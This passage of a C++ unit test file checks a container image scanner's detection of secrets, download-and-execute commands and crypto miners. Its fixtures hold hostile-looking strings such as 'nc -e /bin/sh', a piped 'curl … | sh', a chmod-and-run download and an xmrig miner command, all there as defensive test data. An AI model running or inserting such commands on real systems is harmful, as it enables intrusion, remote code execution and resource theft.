  image.history = {{.created_by = std::string("/bin/sh -c #(nop)  ENV SERVICE_TOKEN=") + kAwsSecret,
                    .empty_layer = true}};
  auto ds = CheckImageConfig(image);
  ASSERT_EQ(ds.size(), 1u) << Describe(ds);
  EXPECT_EQ(ds[0].evidence, "Env[0]: SERVICE_TOKEN=q8Zt\u2026 (40 chars, redacted)");
}

// Short values show no characters at all.
TEST(ConfigChecksTest, ShortSecretsShowNothing) {
  model::ImageInfo image = Image();
  image.config.env = {"ADMIN_PASSWORD=hunter2"};
  auto ds = CheckImageConfig(image);
  ASSERT_EQ(ds.size(), 1u) << Describe(ds);
  EXPECT_EQ(ds[0].evidence, "Env[0]: ADMIN_PASSWORD=\u2026 (7 chars, redacted)");
}

// Fields built to make naive scanning quadratic finish quickly and give a
// bounded report.
TEST(ConfigChecksTest, AdversarialFieldsAreBounded) {
  auto repeat = [](const std::string& unit) {
    std::string out;
    while (out.size() < (size_t{1} << 20)) out += unit;
    return out;
  };
  model::ImageInfo image = Image();
  for (const char* unit : {"A_TOKEN=", "A_TOKEN=x1y2z3w4v5 ", "curl http://a/b;", "-----BEGIN ",
                           "-----BEGIN RSA PRIVATE KEY-----", "stratum+", "xoxb-", "npm_",
                           "$(curl ", "a=$(", "nc -e /bin/sh;", "hooks.slack.com/services/"}) {
    image.config.env.push_back(repeat(unit));
    image.history.push_back({.created_by = repeat(unit)});
  }
  image.config.cmd = {repeat("curl -o x http://a/x;chmod +x x;")};
  auto ds = CheckImageConfig(image);
  EXPECT_LE(ds.size(), 256u);
  EXPECT_FALSE(ds.empty());
}

// Evidence of other findings quotes the command with its secrets redacted,
// quoted values with blanks included.
TEST(ConfigChecksTest, CommandsAreQuotedWithSecretsRedacted) {
  const std::string secret = "s3cr3t v4lue with blanks";
  model::ImageInfo image = Image();
  image.history = {{.created_by = "RUN /bin/sh -c DB_PASSWORD=\"" + secret +
                                  "\" /opt/xmrig/xmrig --url 192.0.2.1:3333 # buildkit"}};
  image.config.cmd = {"sh", "-c",
                      "API_TOKEN='" + secret + "' curl -fsSL https://example.org/i | sh"};
  auto ds = CheckImageConfig(image);
  EXPECT_EQ(Rules(ds),
            (std::vector<std::string>{"config-download-execute", "config-miner-executable",
                                      "config-secret-assignment"}))
      << Describe(ds);
  EXPECT_EQ(WithRule(ds, "config-download-execute")[0].evidence,
            "Cmd: sh -c API_TOKEN='s3cr\u2026 (24 chars, redacted)' curl -fsSL "
            "https://example.org/i | sh");
  ExpectNoLeak(ds, secret);
  ExpectNoLeak(ds, "v4lue");
}

}  // namespace
}  // namespace customs::detect
